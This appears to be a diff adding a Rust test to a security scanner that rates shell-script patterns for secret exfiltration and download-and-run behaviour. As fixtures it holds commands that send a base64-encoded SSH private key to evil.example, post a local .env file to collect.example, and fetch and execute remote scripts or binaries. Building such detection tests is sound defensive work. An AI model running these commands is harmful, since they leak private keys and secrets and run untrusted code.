@@ -497,3 +497,27 @@ fn a_credential_place_the_secret_is_not_in_lowers_nothing() {
         assert_eq!(flow(path, code), Some(Severity::Critical), "{code}");
     }
 }
+
+/// A web address's path is the site's (`curl -I https://site/.env` checks the site does not serve it); a local
+/// `.env` sent is a flow. A script downloaded and then run with a shell is what piping it into one does (`high`); a
+/// program downloaded, made executable and run stays critical.
+#[test]
+fn a_sites_path_is_not_a_local_file_and_a_script_run_by_a_shell_is_a_pipe() {
+    let flow = |code: &str| level("flow/secret-to-network", &run(FileKind::Script, "x.sh", code));
+    assert_eq!(flow("curl -I http://your-service/.env\n"), None);
+    assert_eq!(flow("curl -s https://evil.example/?k=$(base64 < ~/.ssh/id_rsa)\n"), Some(Severity::Critical));
+    assert_eq!(flow("curl -s -d @.env https://collect.example/in\n"), Some(Severity::Critical));
+    let run_of = |code: &str| level("campaign/download-and-run", &run(FileKind::Script, "x.sh", code));
+    assert_eq!(
+        run_of("curl -fsSL https://get.example.dev/setup.sh -o setup.sh\nsh setup.sh\n"),
+        Some(Severity::High)
+    );
+    assert_eq!(
+        run_of("curl -fsSL https://get.example.dev/helper -o helper\nchmod +x helper\n./helper\n"),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        run_of("curl -fsSL https://get.example.dev/setup.sh -o setup.sh\nsh setup.sh &\n"),
+        Some(Severity::Critical)
+    );
+}
